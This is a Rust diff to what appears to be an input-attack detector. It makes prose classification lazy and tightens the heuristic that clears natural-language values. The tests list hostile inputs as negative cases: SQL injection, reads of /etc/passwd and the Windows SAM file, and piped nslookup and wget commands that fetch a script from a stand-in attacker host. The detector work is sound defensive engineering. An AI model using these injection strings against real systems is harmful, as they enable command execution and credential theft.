@@ -64,20 +64,44 @@ impl Source {
 }
 
 /// Everything the checks know about a value besides its bytes.
-#[derive(Debug, Clone, Copy)]
+#[derive(Debug, Clone)]
 pub struct ValueContext<'a> {
     pub source: Source,
     /// Parameter, key or header name (empty when none), lowercase not guaranteed.
     pub name: &'a str,
-    /// The value reads as natural-language text (several words, mostly letters).
-    pub prose: bool,
+    text: &'a [u8],
+    prose: std::cell::Cell<Option<bool>>,
+}
+
+impl<'a> ValueContext<'a> {
+    pub fn new(source: Source, name: &'a str, text: &'a [u8]) -> Self {
+        ValueContext {
+            source,
+            name,
+            text,
+            prose: std::cell::Cell::new(None),
+        }
+    }
+
+    /// Whether the value reads as natural-language text or a markdown
+    /// document ([`is_prose`]); computed on first use, since most checks
+    /// return before they need it.
+    pub fn prose(&self) -> bool {
+        match self.prose.get() {
+            Some(p) => p,
+            None => {
+                let p = is_prose(self.text);
+                self.prose.set(Some(p));
+                p
+            }
+        }
+    }
 }
 
 /// Values whose shape alone clears them: numbers, UUIDs, dates, e-mail
 /// addresses, booleans, plain identifiers. No attack in any category fits
 /// these shapes.
 pub fn is_inert_shape(v: &[u8]) -> bool {
-    let v = v.trim_ascii();
     if v.is_empty() {
         return true;
     }
@@ -85,7 +109,8 @@ pub fn is_inert_shape(v: &[u8]) -> bool {
     // decimal and signed numbers. Spaces are excluded on purpose: SQL
     // keywords separated by spaces need no other character.
     v.iter().all(|&b| {
-        b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'@' | b'+' | b',' | b':')
+        b.is_ascii_alphanumeric()
+            || matches!(b, b'_' | b'-' | b'.' | b'@' | b'+' | b',' | b':')
             || (b >= 0x80 && b != 0xc0 && b != 0xc1)
     }) && !has_scheme(v)
 }
@@ -99,26 +124,101 @@ fn has_scheme(v: &[u8]) -> bool {
     })
 }
 
-/// Whether a value reads as prose: at least four words, most bytes letters
-/// or spaces.
+/// Whether a value reads as prose or as a document: at least four words
+/// separated by spaces, starting with a word, mostly letters, almost no
+/// shell or markup symbols; or a markdown document with code fences.
 pub fn is_prose(v: &[u8]) -> bool {
-    if v.len() < 16 {
+    if memchr::memchr(b'`', v).is_some() && memchr::memmem::find(v, b"```").is_some() {
+        return true;
+    }
+    if v.len() < 16 || memchr::memchr_iter(b' ', v).take(3).count() < 3 {
         return false;
     }
-    let mut words = 0;
-    let mut in_word = false;
-    let mut letters_or_space = 0usize;
-    for &b in v {
-        let letter = b.is_ascii_alphabetic() || b >= 0x80;
-        if letter || b == b' ' || b == b'\n' {
-            letters_or_space += 1;
+    // A multi-line document (paragraphs, lists, tables) mostly made of letters.
+    if v.len() >= 80 && memchr::memchr_iter(b'\n', v).take(2).count() == 2 {
+        let letters = v
+            .iter()
+            .filter(|b| b.is_ascii_alphabetic() || **b >= 0x80)
+            .count();
+        if letters * 2 >= v.len() {
+            return true;
         }
-        if letter && !in_word {
+    }
+    let first = v
+        .iter()
+        .find(|b| !b.is_ascii_whitespace())
+        .copied()
+        .unwrap_or(0);
+    if !(first.is_ascii_alphanumeric()
+        || first >= 0x80
+        || matches!(first, b'"' | b'(' | b'*' | b'#' | b'>' | b'-'))
+    {
+        return false;
+    }
+    let mut tokens = 0usize;
+    let mut words = 0usize;
+    for token in v.split(|b| b.is_ascii_whitespace()) {
+        let token = trim_punctuation(token);
+        if token.is_empty() {
+            continue;
+        }
+        tokens += 1;
+        let letters = token
+            .iter()
+            .filter(|b| b.is_ascii_alphabetic() || **b >= 0x80)
+            .count();
+        let plain = token
+            .iter()
+            .all(|b| b.is_ascii_alphabetic() || *b >= 0x80 || matches!(b, b'\'' | b'-'))
+            && token.first() != Some(&b'-');
+        if letters >= 2 && plain {
             words += 1;
         }
-        in_word = letter || b == b'\'';
     }
-    words >= 4 && letters_or_space * 100 >= v.len() * 70
+    let mut letters_or_space = 0usize;
+    let mut symbols = 0usize;
+    for &b in v {
+        if b.is_ascii_alphabetic() || b >= 0x80 || b.is_ascii_whitespace() {
+            letters_or_space += 1;
+        }
+        if matches!(
+            b,
+            b'|' | b'<' | b'>' | b'$' | b'{' | b'}' | b'[' | b']' | b'\\' | b'=' | b'^'
+        ) {
+            symbols += 1;
+        }
+    }
+    words >= 4
+        && words * 10 >= tokens * 6
+        && letters_or_space * 100 >= v.len() * 60
+        && symbols * 50 <= v.len().max(50)
+}
+
+fn trim_punctuation(token: &[u8]) -> &[u8] {
+    let lead = |b: &u8| matches!(b, b'"' | b'\'' | b'(' | b'`' | b'*' | b'_' | b'[');
+    let trail = |b: &u8| {
+        matches!(
+            b,
+            b'"' | b'\''
+                | b')'
+                | b','
+                | b'.'
+                | b';'
+                | b':'
+                | b'!'
+                | b'?'
+                | b'`'
+                | b'*'
+                | b'_'
+                | b']'
+        )
+    };
+    let start = token.iter().position(|b| !lead(b)).unwrap_or(token.len());
+    let end = token
+        .iter()
+        .rposition(|b| !trail(b))
+        .map_or(start, |p| p + 1);
+    token.get(start..end.max(start)).unwrap_or(&[])
 }
 
 #[cfg(test)]
@@ -145,8 +245,19 @@ mod tests {
 
     #[test]
     fn prose() {
-        assert!(is_prose(b"I really liked this product, it's great for my kitchen"));
+        assert!(is_prose(
+            b"I really liked this product, it's great for my kitchen"
+        ));
         assert!(!is_prose(b"' or 1=1--"));
         assert!(!is_prose(b"; cat /etc/passwd"));
+        assert!(!is_prose(b"C:\\Windows\\System32\\config\\SAM"));
+        assert!(!is_prose(b"| nslookup x.evil.example"));
+        assert!(!is_prose(b"a; ruby -e 'puts 1'"));
+        assert!(!is_prose(
+            b"test.txt | wget http://evil.example/x.sh -O /tmp/x.sh"
+        ));
+        assert!(is_prose(
+            b"Works as advertised -- battery lasts ~2 days. Only issue: the app"
+        ));
     }
 }
